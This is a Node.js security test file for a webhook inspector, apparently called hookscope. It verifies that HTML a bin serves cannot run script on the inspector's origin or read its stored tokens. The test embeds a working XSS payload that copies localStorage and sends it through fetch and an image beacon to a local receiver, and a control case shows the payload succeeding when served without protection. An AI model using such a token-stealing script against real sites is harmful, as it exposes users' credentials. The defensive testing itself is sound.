// A bin's answer cannot touch the inspector's origin (issue 12): a custom
// response that is an HTML page with a script reading localStorage (where the
// inspector keeps every bin token) and posting it out, opened in Chromium,
// reads nothing and posts nothing; the sender still gets the page as
// configured. The control serves the same page without hookscope and shows
// the script does run and post there.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import http from "node:http";
import { Browser, Hookscope, freePort, sleep } from "./lib.mjs";

const hs = new Hookscope();
const br = new Browser();
let page;
let receiver;
let receiverURL;
const hits = [];

const evil = (to) => `<!doctype html><title>evil</title><script>
let v;
try { v = JSON.stringify(Object.assign({}, localStorage)); } catch (e) { v = "blocked:" + e.name; }
document.title = "ran:" + v;
fetch(${JSON.stringify(to)} + "/steal?d=" + encodeURIComponent(v), { mode: "no-cors" }).catch(() => {});
new Image().src = ${JSON.stringify(to)} + "/img?d=" + encodeURIComponent(v);
</script>`;

before(async () => {
  const port = await freePort();
  receiverURL = `http://127.0.0.1:${port}`;
  receiver = http.createServer((req, res) => {
    if (req.url === "/control") {
      res.writeHead(200, { "Content-Type": "text/html" });
      res.end(evil(receiverURL));
      return;
    }
    hits.push(req.url);
    res.end("ok");
  });
  await new Promise((ok) => receiver.listen(port, "127.0.0.1", ok));
  await hs.start();
  page = await br.start();
});

after(async () => {
  await br.close();
  await hs.cleanup();
  receiver.close();
});

async function waitForHits(n, ms) {
  const deadline = Date.now() + ms;
  while (hits.length < n && Date.now() < deadline) await sleep(25);
}

test("control: the page's script runs and posts when served without hookscope", async () => {
  await page.goto(`${receiverURL}/control`);
  await waitForHits(1, 10000);
  assert.ok(hits.length >= 1, "the control page posted nothing: the test would prove nothing");
  assert.match(await page.title(), /^ran:/);
  hits.length = 0;
});

test("a bin's HTML answer runs no script on the inspector's origin and reads no token", async () => {
  // The inspector's origin holds a secret in localStorage, as it holds tokens.
  await page.goto(`${hs.url}/`);
  await page.evaluate(() => localStorage.setItem("hookscope-secret", "SECRET-OWNER-TOKEN"));
  assert.equal(await page.evaluate(() => localStorage.getItem("hookscope-secret")), "SECRET-OWNER-TOKEN");

  const bin = await hs.createBin({
    response: { status: 200, headers: [["Content-Type", "text/html; charset=utf-8"], ["Content-Security-Policy", "script-src * 'unsafe-inline'"]], body: evil(receiverURL) },
  });

  // The sender still gets the configured answer.
  const r = await fetch(`${hs.url}/h/${bin.id}`);
  assert.equal(r.status, 200);
  assert.equal(await r.text(), evil(receiverURL));
  assert.match(r.headers.get("content-security-policy"), /^sandbox/);
  assert.equal(r.headers.get("x-content-type-options"), "nosniff");

  // Opened in the browser, on the inspector's origin: nothing runs.
  await page.goto(`${hs.url}/h/${bin.id}/page`);
  await sleep(1500); // give a script every chance to post (the control posted within ms)
  assert.deepEqual(hits, [], "the bin's page posted something out");
  assert.equal(await page.title(), "evil", "the bin's script ran");
  // Even script that did run there would read nothing: the document has an
  // opaque origin, without access to the inspector's storage.
  assert.equal(await page.evaluate(() => window.origin), "null");
  assert.match(await page.evaluate(() => { try { return String(localStorage.getItem("hookscope-secret")); } catch (e) { return "blocked:" + e.name; } }), /^blocked:SecurityError$/);
});
